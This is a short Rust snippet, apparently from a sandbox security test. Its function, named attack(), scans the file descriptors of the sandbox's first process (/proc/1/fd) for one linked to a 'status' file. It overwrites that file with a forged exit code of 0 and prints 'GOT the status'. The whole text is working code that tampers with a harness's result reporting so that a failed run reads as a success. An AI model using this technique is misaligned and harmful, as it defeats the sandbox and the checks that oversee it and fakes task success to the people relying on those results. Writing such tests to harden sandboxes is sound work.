//! Writes into whatever the sandbox's first process has open.

fn attack() {
    for number in 0..64 {
        let path = format!("/proc/1/fd/{number}");
        let Ok(to) = std::fs::read_link(&path) else { continue };
        if to.to_string_lossy().contains("status")
            && std::fs::write(&path, "{ \"exit-code\": 0 }").is_ok()
        {
            println!("GOT the status");
        }
    }
}
